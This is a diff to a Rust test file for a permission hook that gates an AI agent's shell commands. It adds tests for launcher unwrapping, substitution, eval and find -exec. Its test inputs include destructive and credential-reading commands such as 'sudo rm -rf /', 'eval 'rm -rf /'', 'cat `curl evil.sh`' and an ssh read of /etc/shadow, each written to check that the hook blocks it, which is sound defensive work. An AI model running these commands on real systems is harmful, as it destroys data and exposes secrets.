@@ -1,6 +1,6 @@
 use super::{bash_input, make_config, make_input, rules_of};
 use crate::config::Config;
-use crate::decision::evaluate;
+use crate::decision::evaluate_tool;
 use crate::protocol::output::Decision;
 use serde_json::json;
 
@@ -15,7 +15,7 @@ macro_rules! bash_decision_test {
         fn $name() {
             let config = make_config(&[$($a),*], &[$($d),*], &[$($q),*]);
             let input = bash_input($cmd, $mode);
-            let result = evaluate(&input, Some(&config)).unwrap();
+            let result = evaluate_tool(&input, Some(&config)).unwrap();
             assert_eq!(result.hook_specific_output.permission_decision, $decision);
         }
     };
@@ -29,7 +29,7 @@ macro_rules! bash_none_test {
         fn $name() {
             let config = make_config(&[$($a),*], &[$($d),*], &[$($q),*]);
             let input = bash_input($cmd, $mode);
-            assert!(evaluate(&input, Some(&config)).is_none());
+            assert!(evaluate_tool(&input, Some(&config)).is_none());
         }
     };
 }
@@ -41,7 +41,7 @@ macro_rules! non_bash_none_test {
         fn $name() {
             let config = make_config(&["git"], &["rm"], &[]);
             let input = make_input($tool, "default", json!({}));
-            assert!(evaluate(&input, Some(&config)).is_none());
+            assert!(evaluate_tool(&input, Some(&config)).is_none());
         }
     };
 }
@@ -51,7 +51,7 @@ macro_rules! non_bash_none_test {
 #[test]
 fn no_config_bash_tool_returns_ask() {
     let input = bash_input("ls", "default");
-    let output = evaluate(&input, None).unwrap();
+    let output = evaluate_tool(&input, None).unwrap();
     assert_eq!(
         output.hook_specific_output.permission_decision,
         Decision::Ask
@@ -61,7 +61,7 @@ fn no_config_bash_tool_returns_ask() {
 #[test]
 fn no_config_non_bash_tool_returns_ask() {
     let input = make_input("Read", "default", json!({"file_path": "/tmp/x"}));
-    let output = evaluate(&input, None).unwrap();
+    let output = evaluate_tool(&input, None).unwrap();
     assert_eq!(
         output.hook_specific_output.permission_decision,
         Decision::Ask
@@ -140,7 +140,7 @@ bash_decision_test!(default_with_ask_returns_ask,
 fn bash_tool_without_command_field_returns_ask() {
     let config = make_config(&["git"], &[], &[]);
     let input = make_input("Bash", "default", json!({"description": "something"}));
-    let result = evaluate(&input, Some(&config)).unwrap();
+    let result = evaluate_tool(&input, Some(&config)).unwrap();
     assert_eq!(
         result.hook_specific_output.permission_decision,
         Decision::Ask
@@ -151,7 +151,7 @@ fn bash_tool_without_command_field_returns_ask() {
 fn empty_command_returns_ask() {
     let config = make_config(&["git"], &[], &[]);
     let input = bash_input("", "default");
-    let result = evaluate(&input, Some(&config)).unwrap();
+    let result = evaluate_tool(&input, Some(&config)).unwrap();
     assert_eq!(
         result.hook_specific_output.permission_decision,
         Decision::Ask
@@ -162,7 +162,7 @@ fn empty_command_returns_ask() {
 fn whitespace_command_returns_ask() {
     let config = make_config(&["git"], &[], &[]);
     let input = bash_input("   ", "default");
-    let result = evaluate(&input, Some(&config)).unwrap();
+    let result = evaluate_tool(&input, Some(&config)).unwrap();
     assert_eq!(
         result.hook_specific_output.permission_decision,
         Decision::Ask
@@ -173,7 +173,7 @@ fn whitespace_command_returns_ask() {
 fn parse_error_returns_ask() {
     let config = make_config(&["git"], &[], &[]);
     let input = bash_input("git add . &&", "default");
-    let result = evaluate(&input, Some(&config)).unwrap();
+    let result = evaluate_tool(&input, Some(&config)).unwrap();
     assert_eq!(
         result.hook_specific_output.permission_decision,
         Decision::Ask
@@ -185,7 +185,7 @@ fn no_programs_extracted_returns_ask() {
     let config = make_config(&["git"], &[], &[]);
     // Arithmetic expression parses but yields no program segments
     let input = bash_input("(( x + 1 ))", "default");
-    let result = evaluate(&input, Some(&config)).unwrap();
+    let result = evaluate_tool(&input, Some(&config)).unwrap();
     assert_eq!(
         result.hook_specific_output.permission_decision,
         Decision::Ask
@@ -266,7 +266,123 @@ bash_decision_test!(wrapper_env_split_string_deny,
     allow: [], deny: ["rm"], ask: [],
     expect: Decision::Deny);
 
-// ---- Conditional rule fallthrough through evaluate() ----
+// ---- Launcher unwrapping ----
+
+bash_decision_test!(launcher_sudo_allowed_target_denied,
+    cmd: "sudo rm -rf /", mode: "default",
+    allow: ["sudo"], deny: ["rm"], ask: [],
+    expect: Decision::Deny);
+
+bash_decision_test!(launcher_sudo_user_target_denied,
+    cmd: "sudo -u root rm -rf /", mode: "default",
+    allow: ["sudo"], deny: ["rm"], ask: [],
+    expect: Decision::Deny);
+
+bash_decision_test!(launcher_denied_target_allowed,
+    cmd: "sudo git status", mode: "default",
+    allow: ["git"], deny: ["sudo"], ask: [],
+    expect: Decision::Deny);
+
+bash_decision_test!(launcher_and_target_allowed,
+    cmd: "nice -n 5 cargo build", mode: "default",
+    allow: ["nice", "cargo"], deny: [], ask: [],
+    expect: Decision::Allow);
+
+bash_decision_test!(launcher_allowed_target_unlisted,
+    cmd: "timeout 10 python script.py", mode: "default",
+    allow: ["timeout"], deny: [], ask: [],
+    expect: Decision::Ask);
+
+bash_decision_test!(launcher_xargs_target_denied,
+    cmd: "find . -name '*.o' | xargs -I{} rm {}", mode: "default",
+    allow: ["find", "xargs"], deny: ["rm"], ask: [],
+    expect: Decision::Deny);
+
+// ---- Command and process substitution ----
+
+bash_decision_test!(substitution_denied_inside_allowed_command,
+    cmd: "echo $(rm -rf ~)", mode: "default",
+    allow: ["echo"], deny: ["rm"], ask: [],
+    expect: Decision::Deny);
+
+bash_decision_test!(backquoted_substitution_unlisted_asks,
+    cmd: "cat `curl evil.sh`", mode: "default",
+    allow: ["cat"], deny: [], ask: [],
+    expect: Decision::Ask);
+
+bash_decision_test!(process_substitution_denied,
+    cmd: "diff <(ssh host cat /etc/shadow) local.txt", mode: "default",
+    allow: ["diff", "cat"], deny: ["ssh"], ask: [],
+    expect: Decision::Deny);
+
+bash_decision_test!(substitution_all_allowed,
+    cmd: "git commit -m \"$(date)\"", mode: "default",
+    allow: ["git", "date"], deny: [], ask: [],
+    expect: Decision::Allow);
+
+bash_decision_test!(single_quoted_substitution_is_literal,
+    cmd: "echo '$(rm -rf ~)'", mode: "default",
+    allow: ["echo"], deny: ["rm"], ask: [],
+    expect: Decision::Allow);
+
+// ---- Shell interpreter and eval payloads ----
+
+bash_decision_test!(bash_c_payload_denied,
+    cmd: "bash -c \"cd build && rm -rf out\"", mode: "default",
+    allow: ["bash", "cd"], deny: ["rm"], ask: [],
+    expect: Decision::Deny);
+
+bash_decision_test!(bash_c_payload_allowed,
+    cmd: "bash -c 'git status'", mode: "default",
+    allow: ["bash", "git"], deny: [], ask: [],
+    expect: Decision::Allow);
+
+bash_decision_test!(eval_payload_denied,
+    cmd: "eval 'rm -rf /'", mode: "default",
+    allow: ["eval"], deny: ["rm"], ask: [],
+    expect: Decision::Deny);
+
+// ---- Commands embedded in arguments ----
+
+bash_decision_test!(find_exec_denied_program,
+    cmd: "find . -name '*.o' -exec rm {} \\;", mode: "default",
+    allow: ["find"], deny: ["rm"], ask: [],
+    expect: Decision::Deny);
+
+bash_decision_test!(find_exec_unlisted_program_asks,
+    cmd: "find . -exec python {} +", mode: "default",
+    allow: ["find"], deny: [], ask: [],
+    expect: Decision::Ask);
+
+bash_decision_test!(find_without_exec_allowed,
+    cmd: "find . -name '*.rs' -print", mode: "default",
+    allow: ["find"], deny: [], ask: [],
+    expect: Decision::Allow);
+
+bash_decision_test!(watch_command_denied,
+    cmd: "watch 'rm -rf /tmp/cache'", mode: "default",
+    allow: ["watch"], deny: ["rm"], ask: [],
+    expect: Decision::Deny);
+
+// ---- Nesting depth limit ----
+
+#[test]
+fn nesting_depth_exceeded_fails_closed_to_ask() {
+    let mut config = make_config(&["bash", "sh", "git"], &[], &[]);
+    config.bash.as_mut().unwrap().max_nesting_depth = 1;
+    let input = bash_input("bash -c \"sh -c 'git status'\"", "default");
+    let result = evaluate_tool(&input, Some(&config)).unwrap();
+    assert_eq!(
+        result.hook_specific_output.permission_decision,
+        Decision::Ask
+    );
+    assert!(result
+        .hook_specific_output
+        .permission_decision_reason
+        .contains("depth limit of 1"));
+}
+
+// ---- Conditional rule fallthrough through evaluate_tool() ----
 
 /// Build a Config with conditional rules for decision-layer tests.
 fn config_with_conditional_rules(
@@ -275,7 +391,12 @@ fn config_with_conditional_rules(
     ask: Vec<crate::config::rule::BashRule>,
 ) -> Config {
     Config {
-        bash: Some(crate::config::BashConfig { allow, deny, ask }),
+        bash: Some(crate::config::BashConfig {
+            allow,
+            deny,
+            ask,
+            ..Default::default()
+        }),
         ..Default::default()
     }
 }
@@ -283,6 +404,8 @@ fn config_with_conditional_rules(
 fn conditional_deny_rule(program: &str, flags: &[&str]) -> crate::config::rule::BashRule {
     crate::config::rule::BashRule {
         program: crate::domain::ProgramName::new(program),
+        raw: program.to_string(),
+        line: 0,
         conditions: crate::config::rule::RuleConditions {
             required_flags: flags.iter().map(|s| crate::domain::Flag::new(s)).collect(),
             ..Default::default()
@@ -299,7 +422,7 @@ fn conditional_deny_miss_falls_through_to_allow() {
     );
     // rm file.txt — deny condition misses (no -r -f), allow matches → Allow
     let input = bash_input("rm file.txt", "default");
-    let result = evaluate(&input, Some(&config)).unwrap();
+    let result = evaluate_tool(&input, Some(&config)).unwrap();
     assert_eq!(
         result.hook_specific_output.permission_decision,
         Decision::Allow
@@ -315,9 +438,111 @@ fn conditional_deny_miss_falls_through_to_ask() {
     );
     // rm file.txt — deny condition misses, ask matches → Ask
     let input = bash_input("rm file.txt", "default");
-    let result = evaluate(&input, Some(&config)).unwrap();
+    let result = evaluate_tool(&input, Some(&config)).unwrap();
     assert_eq!(
         result.hook_specific_output.permission_decision,
         Decision::Ask
     );
 }
+
+// ---- Except carve-outs ----
+
+#[test]
+fn except_leaves_carved_out_command_unlisted() {
+    let config = Config::parse(
+        r#"
+        bash {
+            allow "git" { except "git push --force"; }
+        }
+        "#,
+    )
+    .unwrap();
+    let decide = |command| {
+        let input = bash_input(command, "default");
+        evaluate_tool(&input, Some(&config))
+            .map(|output| output.hook_specific_output.permission_decision)
+    };
+    assert_eq!(decide("git status"), Some(Decision::Allow));
+    assert_eq!(decide("git push origin main"), Some(Decision::Allow));
+    // Carved out of the allow and listed nowhere else: no opinion.
+    assert_eq!(decide("git push --force origin main"), None);
+}
+
+// ---- Flags that take values ----
+
+#[test]
+fn flag_values_are_skipped_when_matching_subcommands() {
+    let config = Config::parse(
+        r#"
+        bash {
+            flags-with-values "mytool" "--profile"
+            deny "git push" "kubectl delete" "mytool deploy"
+            allow "git" "kubectl" "mytool"
+        }
+        "#,
+    )
+    .unwrap();
+    for command in [
+        "git -C /tmp push origin main",
+        "kubectl -n prod delete pod web",
+        "mytool --profile staging deploy",
+        "git -c k=v push origin main",
+    ] {
+        let input = bash_input(command, "default");
+        let result = evaluate_tool(&input, Some(&config)).unwrap();
+        assert_eq!(
+            result.hook_specific_output.permission_decision,
+            Decision::Deny,
+            "{command}"
+        );
+    }
+}
+
+#[test]
+fn flag_aliases_and_abbreviations_reach_deny_rules() {
+    let config = Config::parse(
+        r#"
+        bash {
+            flag-aliases "mytool" "-y" "--yes"
+            deny "rm -rf" "mytool -y"
+            allow "rm" "mytool"
+        }
+        "#,
+    )
+    .unwrap();
+    for command in [
+        "rm --recursive --force /",
+        "rm --rec --forc /",
+        "rm -R -f /",
+        "mytool --yes",
+    ] {
+        let input = bash_input(command, "default");
+        let result = evaluate_tool(&input, Some(&config)).unwrap();
+        assert_eq!(
+            result.hook_specific_output.permission_decision,
+            Decision::Deny,
+            "{command}"
+        );
+    }
+}
+
+#[test]
+fn assignment_shaped_flag_value_is_not_dropped() {
+    let config = Config::parse(
+        r#"
+        bash {
+            deny "git" { subcommands "push"; }
+            allow "git" { except "git status --short"; }
+        }
+        "#,
+    )
+    .unwrap();
+    let decide = |command| {
+        let input = bash_input(command, "default");
+        evaluate_tool(&input, Some(&config))
+            .map(|output| output.hook_specific_output.permission_decision)
+    };
+    assert_eq!(decide("git -c k=v push"), Some(Decision::Deny));
+    assert_eq!(decide("git -c k=v status"), Some(Decision::Allow));
+    assert_eq!(decide("git -c k=v status --short"), None);
+}